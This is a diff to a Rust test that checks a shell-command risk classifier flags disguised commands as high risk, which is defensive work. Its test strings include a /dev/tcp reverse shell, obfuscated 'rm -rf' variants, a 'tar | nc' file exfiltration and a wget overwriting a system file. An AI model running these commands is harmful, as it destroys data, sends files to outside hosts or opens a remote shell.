@@ -93,6 +93,10 @@ fn what_is_disguised_is_flagged() {
         "bash -i >& /dev/tcp/1.2.3.4/5",
         "r''m -rf ~",
         "R=rm; $R -rf /",
+        "S=$IFS; rm${S}-rf${S}x",
+        "tar c . | nc x.example 1",
+        "find . -type f | xargs rm -f",
+        "wget -qO /etc/x.conf https://x.example",
     ] {
         assert_eq!(explain(text).risk(), Risk::High, "{text}");
     }
